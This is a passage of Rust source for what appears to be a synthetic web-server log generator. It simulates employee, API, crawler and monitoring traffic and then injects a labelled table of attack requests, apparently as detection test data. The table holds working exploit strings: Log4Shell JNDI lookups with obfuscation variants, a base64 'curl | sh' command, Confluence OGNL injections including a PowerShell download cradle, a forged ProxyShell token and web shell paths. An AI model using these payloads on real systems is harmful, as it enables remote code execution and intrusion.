                let login = Referer::Site("/portal/login.jsp");
                out.emit(&b.hit("GET", "/portal/login.jsp", 200, 7_912, referer));
                if rng.gen_bool(0.12) {
                    // A mistyped password shows the form again.
                    out.emit(&b.hit("POST", "/portal/j_security_check", 200, 8_104, login));
                }
                out.emit(&b.hit("POST", "/portal/j_security_check", 302, 0, login));
                out.emit(&b.hit("GET", "/portal/dashboard.jsp", 200, vary(rng, 14_220), login));
                let dashboard = Referer::Site("/portal/dashboard.jsp");
                if rng.gen_bool(0.5) {
                    let _ = write!(uri, "/portal/orders.jsp?page={}", rng.gen_range(1..=6));
                    out.emit(&b.hit("GET", &uri, 200, vary(rng, 21_300), dashboard));
                } else {
                    let _ = write!(uri, "/portal/invoice.jsp?id={}", rng.gen_range(40_000..48_000));
                    out.emit(&b.hit("GET", &uri, 200, vary(rng, 48_700), dashboard));
                }
            }
            _ => {
                let &(page, size) = SITE_PAGES.choose(rng).expect("pages");
                out.emit(&b.hit("GET", page, 200, vary(rng, size), referer));
                site_images(out, rng, &b, page);
                uri.push_str(page);
            }
        }
        s.page = uri;
    }

    /// An employee on the wiki: logs in, then reads pages, searches and polls notifications.
    fn wiki(&mut self, s: &mut Session) {
        let b = self.employees[s.client].browser;
        let (rng, out) = (&mut self.rng, &mut self.out);
        if s.page.is_empty() {
            let login = Referer::Site("/wiki/login.action");
            out.emit(&b.hit("GET", "/wiki/", 302, 0, Referer::None));
            out.emit(&b.hit("GET", "/wiki/login.action", 200, vary(rng, 11_402), Referer::None));
            b.assets(out, rng, WIKI_ASSETS, login);
            if rng.gen_bool(0.06) {
                out.emit(&b.hit("POST", "/wiki/dologin.action", 200, 11_617, login));
            }
            out.emit(&b.hit("POST", "/wiki/dologin.action", 302, 0, login));
            out.emit(&b.hit("GET", "/wiki/", 200, vary(rng, 48_300), login));
            let poll = format!(
                "/wiki/rest/mywork/latest/status/notification/count?_={}",
                epoch_ms(rng, out.last)
            );
            out.emit(&b.hit("GET", &poll, 200, 64, Referer::Site("/wiki/")));
            s.page = "/wiki/".to_string();
            return;
        }
        let prev = std::mem::take(&mut s.page);
        let referer = Referer::Site(&prev);
        let idx = rng.gen_range(0..WIKI_PAGES.len());
        let (space, title) = WIKI_PAGES[idx];
        let page_id = 1_146_881 + idx as u64 * 7_919;
        let mut uri = String::new();
        match rng.gen_range(0..100u32) {
            0..=44 => {
                let _ = write!(uri, "/wiki/display/{space}/{title}");
                if rng.gen_bool(0.03) {
                    out.emit(&b.hit("GET", &uri, 404, 9_870, referer));
                } else {
                    out.emit(&b.hit("GET", &uri, 200, vary(rng, 86_000), referer));
                    let likes = format!(
                        "/wiki/rest/likes/1.0/content/{page_id}/likes?commentLikes=true&_={}",
                        epoch_ms(rng, out.last)
                    );
                    out.emit(&b.hit("GET", &likes, 200, vary(rng, 220), Referer::Site(&uri)));
                    if rng.gen_bool(0.3) {
                        let attachment = format!(
                            "/wiki/download/attachments/{page_id}/diagram-{}.png?version={}&modificationDate={}&api=v2",
                            rng.gen_range(1..5),
                            rng.gen_range(1..6),
                            1_714_000_000_000 + rng.gen_range(0..3_000_000_000i64)
                        );
                        let bytes = vary(rng, 180_000);
                        out.emit(&b.hit("GET", &attachment, 200, bytes, Referer::Site(&uri)));
                    }
                }
            }
            45..=64 => {
                // Quick search as the user types: one request per few characters.
                let q = *WIKI_SEARCHES.choose(rng).expect("searches");
                let mut typed = 2.min(q.len());
                loop {
                    typed = (typed + rng.gen_range(1..=3)).min(q.len());
                    let mut search = String::from("/wiki/rest/quicknav/1/search?query=");
                    push_query_value(&mut search, &q[..typed], true);
                    let _ = write!(search, "&_={}", epoch_ms(rng, out.last));
                    out.emit(&b.hit("GET", &search, 200, vary(rng, 1_900), referer));
                    if typed == q.len() {
                        break;
                    }
                }
                uri = prev.clone();
            }
            65..=74 => {
                let q = *WIKI_SEARCHES.choose(rng).expect("searches");
                uri.push_str("/wiki/search?text=");
                push_query_value(&mut uri, q, true);
                out.emit(&b.hit("GET", &uri, 200, vary(rng, 38_000), referer));
                let mut api = String::from("/wiki/rest/api/search?cql=");
                push_query_value(
                    &mut api,
                    &format!("siteSearch ~ \"{q}\" AND type = \"page\""),
                    true,
                );
                let _ = write!(api, "&start={}&limit=25", 25 * rng.gen_range(0..3));
                out.emit(&b.hit("GET", &api, 200, vary(rng, 14_000), Referer::Site(&uri)));
            }
            75..=84 => {
                let _ = write!(uri, "/wiki/display/{space}");
                out.emit(&b.hit("GET", &uri, 200, vary(rng, 52_000), referer));
            }
            85..=89 => {
                let api = format!("/wiki/rest/api/content/{page_id}?expand=body.storage,version");
                out.emit(&b.hit("GET", &api, 200, vary(rng, 24_000), referer));
                uri = prev.clone();
            }
            _ => {
                let poll = format!(
                    "/wiki/rest/mywork/latest/status/notification/count?_={}",
                    epoch_ms(rng, out.last)
                );
                out.emit(&b.hit("GET", &poll, 200, 64, referer));
                uri = prev.clone();
            }
        }
        s.page = uri;
    }

    /// An employee in Outlook Web App: forms login, then mail and calendar service calls.
    fn owa(&mut self, s: &mut Session) {
        let e = &self.employees[s.client];
        let b = e.browser;
        let (rng, out) = (&mut self.rng, &mut self.out);
        let app = Referer::Mail("/owa/");
        if s.page.is_empty() {
            let logon = Referer::Mail(OWA_LOGON);
            out.emit(&b.hit("GET", "/owa/", 302, 0, Referer::None));
            out.emit(&b.hit("GET", OWA_LOGON, 200, vary(rng, 22_104), Referer::None));
            b.assets(out, rng, OWA_LOGON_ASSETS, logon);
            if rng.gen_bool(0.07) {
                // A wrong password comes back to the form with reason=2.
                out.emit(&b.hit("POST", "/owa/auth.owa", 302, 0, logon));
                out.emit(&b.hit("GET", OWA_LOGON_FAILED, 200, vary(rng, 22_180), logon));
            }
            out.emit(&b.hit("POST", "/owa/auth.owa", 302, 0, logon));
            out.emit(&b.hit("GET", "/owa/", 200, vary(rng, 31_447), logon));
            b.assets(out, rng, OWA_APP_ASSETS, app);
            out.emit(&b.hit(
                "POST",
                "/owa/sessiondata.ashx?appcache=true",
                200,
                vary(rng, 58_000),
                app,
            ));
            s.page = "/owa/".to_string();
            return;
        }
        let mut uri = String::new();
        match rng.gen_range(0..100u32) {
            0..=44 => {
                for _ in 0..rng.gen_range(1..=2) {
                    uri.clear();
                    let action = OWA_ACTIONS.choose(rng).expect("actions");
                    let _ = write!(uri, "/owa/service.svc?action={action}&EP=1&ID=-{}&AC=1", s.seq);
                    s.seq += 1;
                    out.emit(&b.hit("POST", &uri, 200, vary(rng, 9_000), app));
                }
            }
            45..=69 => {
                uri.push_str(
                    "/owa/ev.owa2?ns=PendingRequest&ev=PendingNotificationRequest&UA=0&cid=",
                );
                push_hex(&mut uri, rng, 32);
                out.emit(&b.hit("POST", &uri, 200, vary(rng, 900), app));
            }
            70..=79 => {
                uri.push_str("/owa/service.svc/s/GetFileAttachment?id=");
                push_hex(&mut uri, rng, 64);
                uri.push_str("&X-OWA-CANARY=");
                push_hex(&mut uri, rng, 32);
                out.emit(&b.hit("GET", &uri, 200, vary(rng, 340_000), app));
            }
            80..=89 => {
                let _ = write!(uri, "/owa/service.svc?action=CreateItem&EP=1&ID=-{}&AC=1", s.seq);
                s.seq += 1;
                out.emit(&b.hit("POST", &uri, 200, vary(rng, 1_800), app));
            }
            90..=96 => {
                uri.push_str("/owa/service.svc/s/GetPersonaPhoto?email=");
                let colleague = &self.employees[rng.gen_range(0..self.employees.len())].email;
                push_query_value(&mut uri, colleague, false);
                uri.push_str("%40northwind-traders.com&UA=0&size=HR64x64");
                out.emit(&b.hit("GET", &uri, 200, vary(rng, 3_100), app));
            }
            _ => {
                out.emit(&b.hit("GET", "/owa/logoff.owa", 302, 0, app));
                s.views = 1;
            }
        }
    }

    /// Outlook on the desktop: Autodiscover, then MAPI over HTTP and EWS, no referrer.
    fn outlook(&mut self, s: &mut Session) {
        let e = &self.employees[s.client];
        let (rng, out) = (&mut self.rng, &mut self.out);
        let hit = |method, uri, status, bytes| Hit {
            ip: e.browser.ip,
            user: "-",
            method,
            uri,
            proto: "HTTP/1.1",
            status,
            bytes,
            referer: Referer::None,
            ua: e.outlook_ua,
        };
        let mapi =
            |kind: &str| format!("/mapi/{kind}/?MailboxId={}@northwind-traders.com", e.mailbox);
        if s.page.is_empty() {
            out.emit(&hit("POST", "/autodiscover/autodiscover.xml", 401, 58));
            out.emit(&hit("POST", "/autodiscover/autodiscover.xml", 200, vary(rng, 2_874)));
            if rng.gen_bool(0.4) {
                let json = format!(
                    "/autodiscover/autodiscover.json/v1.0/{}@northwind-traders.com?Protocol=AutodiscoverV1&RedirectCount=1",
                    e.email
                );
                out.emit(&hit("GET", &json, 200, vary(rng, 92)));
            }
            s.page = "/mapi/".to_string();
            return;
        }
        match rng.gen_range(0..100u32) {
            0..=64 => {
                let uri = mapi("emsmdb");
                for _ in 0..rng.gen_range(1..=3) {
                    out.emit(&hit("POST", &uri, 200, vary(rng, 4_000)));
                }
            }
            65..=79 => out.emit(&hit("POST", &mapi("nspi"), 200, vary(rng, 2_300))),
            80..=94 => out.emit(&hit("POST", "/EWS/Exchange.asmx", 200, vary(rng, 6_400))),
            _ => {
                // The connection is re-authenticated: a challenge, then the request again.
                let uri = mapi("emsmdb");
                out.emit(&hit("POST", &uri, 401, 58));
                out.emit(&hit("POST", &uri, 200, vary(rng, 4_000)));
            }
        }
    }

    /// The mobile app and partner integrations on the JSON API.
    fn api(&mut self, s: &mut Session) {
        let a = self.agents[s.client];
        let (rng, out) = (&mut self.rng, &mut self.out);
        let user = match a.api {
            ApiKind::Edi(user) => user,
            _ => "-",
        };
        let hit = |method, uri, status, bytes| Hit {
            ip: a.ip,
            user,
            method,
            uri,
            proto: "HTTP/1.1",
            status,
            bytes,
            referer: Referer::None,
            ua: a.ua,
        };
        let fresh = s.page.is_empty();
        s.page = "/api/".to_string();
        let mut uri = String::new();
        match a.api {
            ApiKind::Edi(_) => {
                if rng.gen_bool(0.7) {
                    uri.push_str("/api/v1/edi/orders?since=");
                    push_query_value(&mut uri, &out::iso(out.last - 3_600), false);
                    out.emit(&hit("GET", &uri, 200, vary(rng, 9_000)));
                } else {
                    out.emit(&hit("POST", "/api/v1/edi/invoices", 202, 57));
                }
            }
            _ if fresh => {
                if rng.gen_bool(0.05) {
                    out.emit(&hit("POST", "/api/v2/auth/token", 401, 64));
                }
                out.emit(&hit("POST", "/api/v2/auth/token", 200, vary(rng, 1_104)));
            }
            ApiKind::MobileApp => match rng.gen_range(0..100u32) {
                0..=14 => out.emit(&hit("GET", "/api/v2/me", 200, vary(rng, 1_512))),
                15..=39 => {
                    let _ =
                        write!(uri, "/api/v2/products?page={}&per_page=20", rng.gen_range(1..=8));
                    out.emit(&hit("GET", &uri, 200, vary(rng, 7_800)));
                }
                40..=59 => {
                    let id = rng.gen_range(1_000..1_400);
                    let _ = write!(uri, "/api/v2/products/{id}");
                    if rng.gen_bool(0.04) {
                        out.emit(&hit("GET", &uri, 404, 98));
                    } else {
                        out.emit(&hit("GET", &uri, 200, vary(rng, 2_950)));
                    }
                }
                60..=74 => {
                    let _ = write!(uri, "/api/v2/notifications?since={}", out.last - 900);
                    let (status, bytes) =
                        if rng.gen_bool(0.4) { (304, 0) } else { (200, vary(rng, 640)) };
                    out.emit(&hit("GET", &uri, status, bytes));
                }
                75..=84 => {
                    out.emit(&hit("POST", "/api/v2/cart/items", 201, 412));
                    if rng.gen_bool(0.3) {
                        let _ = write!(uri, "/api/v2/cart/items/{}", rng.gen_range(1..30));
                        out.emit(&hit("DELETE", &uri, 204, 0));
                    }
                }
                _ => {
                    uri.push_str("/api/v2/search?q=");
                    push_query_value(&mut uri, SEARCHES.choose(rng).expect("searches"), false);
                    uri.push_str("&limit=20");
                    out.emit(&hit("GET", &uri, 200, vary(rng, 6_100)));
                }
            },
            ApiKind::Integration => match rng.gen_range(0..100u32) {
                0..=29 => {
                    let _ =
                        write!(uri, "/api/v2/orders?status=shipped&page={}", rng.gen_range(1..=5));
                    out.emit(&hit("GET", &uri, 200, vary(rng, 18_000)));
                }
                30..=49 => {
                    let (status, bytes) = match rng.gen_range(0..100u32) {
                        0..=1 => (500, 87),
                        2..=4 => (400, 211),
                        _ => (201, 512),
                    };
                    out.emit(&hit("POST", "/api/v2/orders", status, bytes));
                }
                50..=59 => {
                    let _ = write!(uri, "/api/v2/orders/{}", rng.gen_range(58_000..59_000));
                    out.emit(&hit("PUT", &uri, 200, 498));
                }
                60..=79 => {
                    out.emit(&hit("GET", "/api/v2/inventory?sku=NS-4410&warehouse=ROT", 200, 344));
                }
                _ => {
                    let _ =
                        write!(uri, "/api/v2/products?page={}&per_page=50", rng.gen_range(1..=4));
                    out.emit(&hit("GET", &uri, 200, vary(rng, 18_500)));
                }
            },
        }
    }

    /// Search-engine crawlers: robots.txt first, then pages, listings and the sitemap, with
    /// conditional requests, old links and no referrer.
    fn crawler(&mut self, s: &mut Session) {
        let (ip, ua) = self.crawlers[s.client];
        let (rng, out) = (&mut self.rng, &mut self.out);
        let hit = |uri, status, bytes| Hit {
            ip,
            user: "-",
            method: "GET",
            uri,
            proto: "HTTP/1.1",
            status,
            bytes,
            referer: Referer::None,
            ua,
        };
        if s.page.is_empty() {
            s.page = "/robots.txt".to_string();
            let (status, bytes) = if rng.gen_bool(0.3) { (304, 0) } else { (200, 412) };
            out.emit(&hit("/robots.txt", status, bytes));
            return;
        }
        let mut uri = String::new();
        match rng.gen_range(0..100u32) {
            0..=54 => {
                let &(page, size) = SITE_PAGES.choose(rng).expect("pages");
                let (status, bytes) =
                    if rng.gen_bool(0.15) { (304, 0) } else { (200, vary(rng, size)) };
                out.emit(&hit(page, status, bytes));
            }
            55..=69 => {
                let &(listing, size) = PAGINATED.choose(rng).expect("listings");
                let _ = write!(uri, "{listing}{}", rng.gen_range(2..=12));
                out.emit(&hit(&uri, 200, vary(rng, size)));
            }
            70..=77 => out.emit(&hit("/sitemap.xml", 200, 18_350)),
            78..=83 => out.emit(&hit(NOT_FOUND.choose(rng).expect("missing"), 404, 1_245)),
            84..=89 => out.emit(&hit(MOVED.choose(rng).expect("moved").0, 301, 239)),
            _ => {
                let &(image, size) = SITE_IMAGES.choose(rng).expect("images");
                out.emit(&hit(image, 200, size));
            }
        }
    }

    fn monitor(&mut self, s: &Session) {
        let m = MONITORS[s.client];
        self.out.emit(&Hit {
            ip: m.ip,
            user: "-",
            method: m.method,
            uri: m.uri,
            proto: "HTTP/1.1",
            status: 200,
            bytes: m.bytes,
            referer: Referer::None,
            ua: m.ua,
        });
    }

    /// Someone checking the site or the API by hand.
    fn curl(&mut self, s: &Session) {
        const CHECKS: &[(&str, &str, u64)] = &[
            ("GET", "/", 41_822),
            ("HEAD", "/", 0),
            ("GET", "/api/health", 27),
            ("GET", "/api/v2/products?page=1&per_page=5", 2_318),
            ("GET", "/robots.txt", 412),
        ];
        let (ip, ua) = self.curls[s.client];
        let &(method, uri, bytes) = CHECKS.choose(&mut self.rng).expect("checks");
        self.out.emit(&Hit {
            ip,
            user: "-",
            method,
            uri,
            proto: "HTTP/1.1",
            status: 200,
            bytes,
            referer: Referer::None,
            ua,
        });
    }
}

/// Up to two product or team pictures on a content page.
fn site_images<R: Rng>(out: &mut Out, rng: &mut R, b: &Browser, page: &str) {
    for _ in 0..rng.gen_range(0..=2) {
        let &(image, size) = SITE_IMAGES.choose(rng).expect("images");
        let (status, bytes) = if b.cached { (304, 0) } else { (200, size) };
        out.emit(&b.hit("GET", image, status, bytes, Referer::Site(page)));
    }
}

impl Iterator for Generator {
    type Item = (i64, String);

    fn next(&mut self) -> Option<Self::Item> {
        while self.out.queue.is_empty() {
            if self.out.remaining == 0 {
                return None;
            }
            self.burst();
        }
        self.out.queue.pop_front()
    }

    fn size_hint(&self) -> (usize, Option<usize>) {
        let n = self.out.remaining + self.out.queue.len();
        (n, Some(n))
    }
}

// ---------------------------------------------------------------------------------------------
// Attacks

/// One attack request; `at` is seconds after the start of the benign week.
struct Attack {
    at: i64,
    ip: [u8; 4],
    method: &'static str,
    uri: &'static str,
    status: u16,
    bytes: u64,
    /// `-` for none.
    referer: &'static str,
    ua: &'static str,
    technique: &'static str,
    what: &'static str,
}

impl Attack {
    fn format(&self, ts: i64) -> String {
        let mut s = String::with_capacity(256 + self.uri.len());
        Hit {
            ip: u32::from_be_bytes(self.ip),
            user: "-",
            method: self.method,
            uri: self.uri,
            proto: "HTTP/1.1",
            status: self.status,
            bytes: self.bytes,
            referer: if self.referer == "-" { Referer::None } else { Referer::Url(self.referer) },
            ua: self.ua,
        }
        .write(ts, &mut s);
        s
    }
}

const fn at(day: i64, hour: i64, min: i64, sec: i64) -> i64 {
    day * 86_400 + hour * 3_600 + min * 60 + sec
}

const LOG4SHELL: &str = "CVE-2021-44228";
const CONFLUENCE_2021: &str = "CVE-2021-26084";
const CONFLUENCE_2022: &str = "CVE-2022-26134";
const PROXYSHELL_SSRF: &str = "CVE-2021-34473";
const PROXYSHELL_EOP: &str = "CVE-2021-34523";
const PROXYSHELL_WRITE: &str = "CVE-2021-31207";
const WEB_SHELL: &str = "web shell";

/// Mass scanner spraying Log4Shell payloads; its LDAP server is 198.51.100.23.
const SCANNER: [u8; 4] = [198, 51, 100, 77];
const SCANNER_UA: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/96.0.4664.110 Safari/537.36";
/// A second scanner using lookup obfuscation against WAF signatures; callbacks to 203.0.113.45.
const OBFUSCATOR: [u8; 4] = [203, 0, 113, 140];
const OBFUSCATOR_UA: &str = "Mozilla/5.0 (X11; Linux x86_64; rv:95.0) Gecko/20100101 Firefox/95.0";
/// The actor exploiting the wiki.
const CONFLUENCE_ACTOR: [u8; 4] = [203, 0, 113, 9];
const SCRIPT_UA: &str = "python-requests/2.26.0";
const CONFLUENCE_UA: &str =
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:100.0) Gecko/20100101 Firefox/100.0";
/// The actor exploiting Exchange and using the ASPX shell it drops.
const EXCHANGE_ACTOR: [u8; 4] = [198, 51, 100, 140];
const PROXYSHELL_UA: &str = "python-requests/2.25.1";
const ASPX_UA: &str =
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:91.0) Gecko/20100101 Firefox/91.0";
/// The actor with the JSP shell.
const JSP_ACTOR: [u8; 4] = [203, 0, 113, 66];
const JSP_UA: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/108.0.0.0 Safari/537.36";

/// The forged CommonAccessToken of ProxyShell (version, Windows auth, Kerberos, the
/// administrator's logon name and SID, group SIDs), base64 and percent-encoded.
macro_rules! rps_cat {
    () => {
        "VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9zTCNhZG1pbmlzdHJhdG9yQG5vcnRod2luZC10cmFkZXJzLmNvbVUrUy0xLTUtMjEtMzYyMzgxMTAxNS0zMzYxMDQ0MzQ4LTMwMzAwODIwLTUwMEcDAAAABwAAAAxTLTEtNS0zMi01NDQHAAAAK1MtMS01LTIxLTM2MjM4MTEwMTUtMzM2MTA0NDM0OC0zMDMwMDgyMC01MTIHAAAAK1MtMS01LTIxLTM2MjM4MTEwMTUtMzM2MTA0NDM0OC0zMDMwMDgyMC01MTlFAAAAAA%3D%3D"
    };
}
const PROXYSHELL_POWERSHELL: &str = concat!(
    "/autodiscover/autodiscover.json?@foo.com/powershell/?X-Rps-CAT=",
    rps_cat!(),
    "&Email=autodiscover/autodiscover.json%3F@foo.com"
);
const ASPX_SHELL: &str = "/aspnet_client/system_web/k3fVpZ9a.aspx";
const JSP_SHELL: &str = "/images/shell.jsp";

/// Written from the public write-ups of each CVE (vendor advisories, the Rapid7 and httpvoid
/// analyses, Orange Tsai's ProxyShell talk and the PoCs derived from it), with the payload
/// variants seen in the wild. Raw strings keep the backslashes of `\u0027` as sent; Apache
/// escaping doubles them in the log.
const ATTACKS: &[Attack] = &[
    // Log4Shell: a JNDI lookup anywhere that gets logged by a Java application.
    Attack {
        at: at(0, 21, 4, 11),
        ip: SCANNER,
        method: "GET",
        uri: "/?x=${jndi:ldap://198.51.100.23:1389/a}",
        status: 200,
        bytes: 41_822,
        referer: "-",
        ua: SCANNER_UA,
        technique: LOG4SHELL,
        what: "JNDI LDAP lookup in the query string",
    },
    Attack {
        at: at(0, 21, 4, 12),
        ip: SCANNER,
        method: "GET",
        uri: "/portal/login.jsp",
        status: 200,
        bytes: 7_912,
        referer: "-",
        ua: "${jndi:ldap://198.51.100.23:1389/Exploit}",
        technique: LOG4SHELL,
        what: "JNDI LDAP lookup in the User-Agent",
    },
    Attack {
        at: at(0, 21, 4, 12),
        ip: SCANNER,
        method: "GET",
        uri: "/wiki/",
        status: 302,
        bytes: 0,
        referer: "${jndi:ldap://198.51.100.23:1389/ref}",
        ua: SCANNER_UA,
        technique: LOG4SHELL,
        what: "JNDI LDAP lookup in the Referer",
    },
    Attack {
        at: at(0, 21, 4, 14),
        ip: SCANNER,
        method: "GET",
        uri: "/$%7Bjndi:ldap://198.51.100.23:1389/p%7D",
        status: 404,
        bytes: 1_245,
        referer: "-",
        ua: SCANNER_UA,
        technique: LOG4SHELL,
        what: "lookup in the path, braces percent-encoded",
    },
    Attack {
        at: at(0, 21, 4, 15),
        ip: SCANNER,
        method: "GET",
        uri: "/search?q=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.23%3A1389%2Fq%7D",
        status: 200,
        bytes: 29_514,
        referer: "-",
        ua: SCANNER_UA,
        technique: LOG4SHELL,
        what: "lookup fully percent-encoded in a search query",
    },
    Attack {
        at: at(0, 21, 4, 17),
        ip: SCANNER,
        method: "GET",
        uri: "/api/v2/products?sort=%2524%257Bjndi%253Aldap%253A%252F%252F198.51.100.23%253A1389%252Fdd%257D",
        status: 400,
        bytes: 211,
        referer: "-",
        ua: SCANNER_UA,
        technique: LOG4SHELL,
        what: "lookup double percent-encoded in an API parameter",
    },
    Attack {
        at: at(0, 21, 4, 18),
        ip: SCANNER,
        method: "GET",
        uri: "/api/v2/products?page=${jndi:ldap://198.51.100.23:1389/Basic/Command/Base64/Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC4yMy94LnNofHNo}",
        status: 400,
        bytes: 211,
        referer: "-",
        ua: SCANNER_UA,
        technique: LOG4SHELL,
        what: "JNDIExploit command payload (base64 of curl | sh) in an API parameter",
    },
    Attack {
        at: at(0, 21, 5, 2),
        ip: SCANNER,
        method: "GET",
        uri: OWA_LOGON,
        status: 200,
        bytes: 22_104,
        referer: "-",
        ua: "${jndi:dns://${hostName}.x7q2m.oast.example.net/a}",
        technique: LOG4SHELL,
        what: "JNDI DNS lookup leaking the host name, in the User-Agent",
    },
    Attack {
        at: at(1, 3, 17, 40),
        ip: OBFUSCATOR,
        method: "GET",
        uri: "/search?q=${${lower:j}ndi:${lower:l}${lower:d}ap://203.0.113.45:1389/o}",
        status: 200,
        bytes: 29_514,
        referer: "-",
        ua: OBFUSCATOR_UA,
        technique: LOG4SHELL,
        what: "${lower:j} obfuscation in a search query",
    },
    Attack {
        at: at(1, 3, 17, 41),
        ip: OBFUSCATOR,
        method: "GET",
        uri: "/",
        status: 200,
        bytes: 41_822,
        referer: "-",
        ua: "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://203.0.113.45:1099/obj}",
        technique: LOG4SHELL,
        what: "${::-j} default-value obfuscation, RMI, in the User-Agent",
    },
    Attack {
        at: at(1, 3, 17, 41),
        ip: OBFUSCATOR,
        method: "GET",
        uri: "/products/",
        status: 200,
        bytes: 36_410,
        referer: "-",
        ua: "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//203.0.113.45:1389/e}",
        technique: LOG4SHELL,
        what: "${env:NaN:-j} obfuscation in the User-Agent",
    },
    Attack {
        at: at(1, 3, 17, 43),
        ip: OBFUSCATOR,
        method: "GET",
        uri: "/api/v2/search?q=${jndi:${lower:l}${lower:d}a${lower:p}://203.0.113.45:1389/s}&limit=20",
        status: 400,
        bytes: 211,
        referer: "-",
        ua: OBFUSCATOR_UA,
        technique: LOG4SHELL,
        what: "protocol spelled with ${lower:} lookups, in an API query",
    },
    Attack {
        at: at(1, 3, 17, 44),
        ip: OBFUSCATOR,
        method: "GET",
        uri: "/wiki/rest/api/content?title=${jndi:rmi://203.0.113.45:1099/Object}&spaceKey=IT",
        status: 401,
        bytes: 88,
        referer: "-",
        ua: OBFUSCATOR_UA,
        technique: LOG4SHELL,
        what: "JNDI RMI lookup in a wiki REST query",
    },
    Attack {
        at: at(1, 3, 17, 46),
        ip: OBFUSCATOR,
        method: "GET",
        uri: "/careers",
        status: 200,
        bytes: 27_380,
        referer: "${${::-j}ndi:ldaps://203.0.113.45:636/r}",
        ua: OBFUSCATOR_UA,
        technique: LOG4SHELL,
        what: "obfuscated LDAPS lookup in the Referer",
    },
    Attack {
        at: at(1, 3, 17, 47),
        ip: OBFUSCATOR,
        method: "POST",
        uri: "/owa/auth.owa",
        status: 302,
        bytes: 0,
        referer: "-",
        ua: "${jndi:ldap://${env:USER}.${sys:java.version}.x7q2m.oast.example.net/u}",
        technique: LOG4SHELL,
        what: "nested lookups leaking environment values through DNS, in the User-Agent",
    },
    // Confluence CVE-2021-26084: OGNL in the queryString parameter of page-variable actions.
    Attack {
        at: at(1, 14, 22, 5),
        ip: CONFLUENCE_ACTOR,
        method: "GET",
        uri: "/wiki/pages/createpage-entervariables.action?SpaceKey=x",
        status: 200,
        bytes: 11_930,
        referer: "-",
        ua: SCRIPT_UA,
        technique: CONFLUENCE_2021,
        what: "probe for the vulnerable action",
    },
    Attack {
        at: at(1, 14, 22, 9),
        ip: CONFLUENCE_ACTOR,
        method: "GET",
        uri: "/wiki/pages/createpage-entervariables.action?SpaceKey=x&queryString=%5cu0027%2b%7b233*233%7d%2b%5cu0027",
        status: 200,
        bytes: 11_958,
        referer: "-",
        ua: SCRIPT_UA,
        technique: CONFLUENCE_2021,
        what: "OGNL arithmetic check (233*233) in queryString",
    },
    Attack {
        at: at(1, 14, 22, 31),
        ip: CONFLUENCE_ACTOR,
        method: "POST",
        uri: r"/wiki/pages/doenterpagevariables.action?queryString=aaa\u0027%2b#{\u0022\u0022[\u0022class\u0022]}%2b\u0027bbb",
        status: 200,
        bytes: 11_960,
        referer: "-",
        ua: SCRIPT_UA,
        technique: CONFLUENCE_2021,
        what: "OGNL injection in queryString with \\u0027-escaped quotes",
    },
    Attack {
        at: at(1, 14, 23, 2),
        ip: CONFLUENCE_ACTOR,
        method: "POST",
        uri: "/pages/doenterpagevariables.action?queryString=%5Cu0027%2B%7BClass.forName%28%5Cu0027javax.script.ScriptEngineManager%5Cu0027%29.newInstance%28%29.getEngineByName%28%5Cu0027JavaScript%5Cu0027%29.%5Cu0065val%28%5Cu0027new+java.lang.ProcessBuilder%28%5B%5Cu0022cmd.exe%5Cu0022%2C%5Cu0022%2Fc%5Cu0022%2C%5Cu0022whoami%5Cu0022%5D%29.start%28%29%5Cu0027%29%7D%2B%5Cu0027",
        status: 404,
        bytes: 1_245,
        referer: "-",
        ua: SCRIPT_UA,
        technique: CONFLUENCE_2021,
        what: "percent-encoded OGNL starting a process through ScriptEngineManager, sent to the \
               root path where there is no Confluence",
    },
    Attack {
        at: at(1, 14, 23, 40),
        ip: CONFLUENCE_ACTOR,
        method: "POST",
        uri: "/wiki/pages/doenterpagevariables.action",
        status: 200,
        bytes: 11_960,
        referer: "-",
        ua: SCRIPT_UA,
        technique: CONFLUENCE_2021,
        what: "payload in the POST body: the log shows only the action",
    },
    Attack {
        at: at(1, 14, 24, 3),
        ip: CONFLUENCE_ACTOR,
        method: "POST",
        uri: r"/wiki/pages/createpage-entervariables.action?SpaceKey=x&queryString=aaa\u0027%2b#{@java.lang.Runtime@getRuntime().exec(\u0022powershell+-nop+-w+hidden+-c+iwr+http://203.0.113.9/s.ps1|iex\u0022)}%2b\u0027",
        status: 200,
        bytes: 11_960,
        referer: "-",
        ua: SCRIPT_UA,
        technique: CONFLUENCE_2021,
        what: "OGNL running a PowerShell download cradle",
    },
    Attack {
        at: at(1, 14, 25, 10),
        ip: CONFLUENCE_ACTOR,
        method: "POST",
        uri: r"/wiki/pages/templates2/viewpagetemplate.action?queryString=aaa\u0027%2b#{\u0022\u0022[\u0022class\u0022].forName(\u0022java.lang.Runtime\u0022)}%2b\u0027",
        status: 200,
        bytes: 9_115,
        referer: "-",
        ua: SCRIPT_UA,
        technique: CONFLUENCE_2021,
        what: "the same injection through another affected action",
    },
    // Confluence CVE-2022-26134: OGNL in the URI path itself.
    Attack {
        at: at(2, 9, 14, 2),
        ip: CONFLUENCE_ACTOR,
        method: "GET",
        uri: "/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22whoami%22%29.getInputStream%28%29%2C%22utf-8%22%29%29.%28%40com.opensymphony.webwork.ServletActionContext%40getResponse%28%29.setHeader%28%22X-Cmd-Response%22%2C%23a%29%29%7D/",
        status: 404,
        bytes: 1_245,
        referer: "-",
        ua: CONFLUENCE_UA,
        technique: CONFLUENCE_2022,
        what: "the published percent-encoded OGNL path, at the root where there is no Confluence",
    },
    Attack {
        at: at(2, 9, 14, 6),
        ip: CONFLUENCE_ACTOR,
        method: "GET",
        uri: "/wiki/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22whoami%22%29.getInputStream%28%29%2C%22utf-8%22%29%29.%28%40com.opensymphony.webwork.ServletActionContext%40getResponse%28%29.setHeader%28%22X-Cmd-Response%22%2C%23a%29%29%7D/",
        status: 302,
        bytes: 0,
